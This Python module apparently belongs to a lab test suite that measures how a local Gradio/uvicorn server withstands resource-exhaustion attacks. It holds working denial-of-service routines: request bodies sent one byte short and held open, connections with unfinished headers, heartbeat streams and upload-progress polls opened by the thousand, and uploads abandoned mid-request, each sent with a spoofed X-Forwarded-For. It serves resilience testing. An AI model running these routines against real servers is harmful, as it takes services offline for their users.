"""Attacks that hold raw connections open: bodies one byte short, unfinished headers, streams and upload-progress
polls by the thousand (file descriptors: this process's limit is raised as far as allowed); connections that leave
mid-request, and what they write to the log."""

from __future__ import annotations

import asyncio
import secrets
import time
import uuid
from collections.abc import Callable, Iterator

from attacks.clients import ATTACKER, Answer
from attacks.measure import raise_fd_limit
from attacks.payloads import CREDENTIALS, MB, multipart, multipart_headers, short_by_one
from attacks.sockets import held_answer, hold, http_head
from attacks.target import Context
from digitnet.lab.serving import visitor

TRACEBACK = "Exception in ASGI application"  # what uvicorn writes before a traceback


def login_held(ctx: Context, scale: float, hold_s: float = 30.0) -> Answer:
    """POST /login with 900 form fields of 1 MB, all but the body's last byte sent, then the connection held."""
    count = max(2, int(900 * scale))
    parts = CREDENTIALS + [(f"f{i}", None, 1_000_000) for i in range(count)]
    length = multipart(parts)[0]

    def request(i: int) -> Iterator[bytes]:
        yield http_head("POST", "/login", multipart_headers(length) | {"X-Forwarded-For": ATTACKER})
        yield from short_by_one(multipart(parts)[1])

    held = hold(ctx, 1, request, hold_s)
    return held_answer(held, f"{count} fields of 1 MB, one byte short")


def upload_progress_ids(ctx: Context, scale: float, hold_s: float = 30.0) -> Answer:
    """GET /gradio_api/upload_progress with 2,000 random 15,000-character ids, 1,000 at a time: Gradio keeps an
    entry per id it is asked about (and waits 3 s for each before its 404)."""
    count = max(10, int(2000 * scale))

    def request(i: int) -> list[bytes]:
        upload_id = secrets.token_hex(7500)
        return [http_head("GET", f"/gradio_api/upload_progress?upload_id={upload_id}",
                          {"X-Forwarded-For": ATTACKER, "Connection": "close"})]  # fmt: skip

    held = hold(ctx, count, request, hold_s, parallel=1000)
    return held_answer(held, f"{count} ids of 15,000 characters", ok=("HTTP 404",))


def json_held(ctx: Context, scale: float, hold_s: float = 30.0) -> Answer:
    """3,000 connections, each sending a 256 KB JSON body (the guard's limit) to /gradio_api/call/draw one byte
    short, then waiting."""
    count = max(10, int(3000 * scale))
    size = 256 * 1024
    body = b'{"data": [], "pad": "' + b"a" * (size - 24) + b'"}'

    def request(i: int) -> list[bytes]:
        head = {"Content-Type": "application/json", "Content-Length": str(size), "X-Forwarded-For": ATTACKER}
        return [http_head("POST", "/gradio_api/call/draw", head), body[: size - 1]]

    held = hold(ctx, count, request, hold_s)
    return held_answer(held, f"{count} bodies of 256 KB, one byte short")


def heartbeats(ctx: Context, scale: float, hold_s: float = 20.0) -> Answer:
    """10,000 GET /gradio_api/heartbeat/<new session> streams from one client, held open."""
    count = max(10, int(10_000 * scale))

    def request(i: int) -> list[bytes]:
        return [http_head("GET", f"/gradio_api/heartbeat/{uuid.uuid4().hex}", {"X-Forwarded-For": ATTACKER})]

    held = hold(ctx, count, request, hold_s)
    return held_answer(held, f"{count} heartbeat streams", ok=("HTTP 200",))


def unfinished_headers(ctx: Context, scale: float, hold_s: float = 30.0) -> Answer:
    """20,000 connections that send part of a request's headers and nothing more (file descriptors: the server's
    and this process's limit is raised as far as allowed); the log's growth is measured."""
    count = max(10, int(20_000 * scale))
    raise_fd_limit(count + 1024)
    before = ctx.log_size()

    def request(i: int) -> list[bytes]:
        return [b"GET /config HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: " + ATTACKER.encode()]

    held = hold(ctx, count, request, hold_s, parallel=512)
    answer = held_answer(held, f"{count} connections with unfinished headers")
    grown = (ctx.log_size() - before) / MB
    answer.text += f"; log +{grown:.1f} MB"
    answer.figures["log_mb"] = round(grown, 2)
    return answer


def left_midway(ctx: Context, scale: float) -> Answer:
    """1,000 uploads, each from another visitor, that send the first 2 KB of a 1 MB body and then close their side
    of the connection (the client leaves mid-request), and 1,000 GET queue/data streams for sessions the server does not
    know (Gradio answers each with a 404 inside the stream): what the log grows by. Each once wrote a traceback of
    about 100 lines (uvicorn's "Exception in ASGI application", TRACEBACK)."""
    count = max(10, int(1000 * scale))
    body = b'--b\r\nContent-Disposition: form-data; name="files"; filename="a.png"\r\n\r\n' + b"\0" * 2048

    def upload(i: int) -> bytes:
        head = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(MB),
                "X-Forwarded-For": visitor(i)}  # fmt: skip
        return http_head("POST", "/gradio_api/upload", head) + body

    def stream(i: int) -> bytes:
        path = f"/gradio_api/queue/data?session_hash=gone{i}"
        return http_head("GET", path, {"X-Forwarded-For": visitor(i), "Connection": "close"})

    async def one(i: int, request: bytes, leave: bool, sem: asyncio.Semaphore) -> None:
        async with sem:
            reader, writer = await asyncio.open_connection("127.0.0.1", ctx.server.port)
            writer.write(request)
            await writer.drain()
            if leave:
                writer.write_eof()  # gone before the rest of the body: the server reads what came, then the end
            await asyncio.wait_for(reader.read(), 30)  # the answer (or stream) to its end, or the server closing
            writer.close()

    async def all_of(request: Callable[[int], bytes], leave: bool) -> None:
        sem = asyncio.Semaphore(32)
        await asyncio.gather(*(one(i, request(i), leave, sem) for i in range(count)))

    figures, lines = {}, []
    for name, request, leave in (("left", upload, True), ("streams", stream, False)):
        before = ctx.log_size()
        asyncio.run(all_of(request, leave))
        time.sleep(1.0)  # what the server writes after the last one
        grown = ctx.log_text(before)
        kb, count_lines, tracebacks = len(grown) / 1024, grown.count("\n"), grown.count(TRACEBACK)
        figures |= {f"{name}_log_kb": round(kb, 1), f"{name}_log_lines": count_lines, f"{name}_tracebacks": tracebacks}
        lines.append(f"{count} {name}: log +{kb:.1f} KB, {count_lines} lines, {tracebacks} tracebacks")
    return Answer("answer", "; ".join(lines), figures=figures)
